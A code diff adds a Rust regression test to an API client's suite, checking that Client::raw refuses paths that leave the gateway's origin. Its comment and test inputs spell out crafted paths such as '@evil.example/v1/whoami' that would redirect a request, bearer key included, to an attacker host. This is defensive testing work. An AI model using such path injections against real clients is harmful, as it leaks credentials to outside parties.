@@ -383,3 +383,30 @@ async fn an_idle_connection_is_not_reused_after_the_pool_idle_time() {
         "after 800 ms idle: a new one"
     );
 }
+
+/// Attack (found by review): `Client::raw` appended its path to the base URL as given, so a
+/// path of `@evil.example/…` made the gateway's host the URL's user name and sent the bearer
+/// key to `evil.example`. A path must start with one `/` and stay on the gateway's origin;
+/// anything else is refused before any request is sent.
+#[tokio::test]
+async fn a_raw_path_that_leaves_the_gateways_origin_is_refused_unsent() {
+    let c = assent_api::Client::new("http://127.0.0.1:9", "agent-key-0123456789abcdef").unwrap();
+    for path in [
+        "@evil.example/v1/whoami",
+        "//evil.example/v1/whoami",
+        "v1/whoami",
+        ".evil.example/",
+    ] {
+        let e = c.raw(reqwest::Method::GET, path, None).await.unwrap_err();
+        assert!(
+            matches!(e, assent_api::ClientError::Config(_)),
+            "{path}: {e:?}"
+        );
+    }
+    // A path on the gateway is sent (here to a closed port: a transport error, not refused).
+    let e = c
+        .raw(reqwest::Method::GET, "/v1/whoami", None)
+        .await
+        .unwrap_err();
+    assert!(e.is_transport(), "{e:?}");
+}
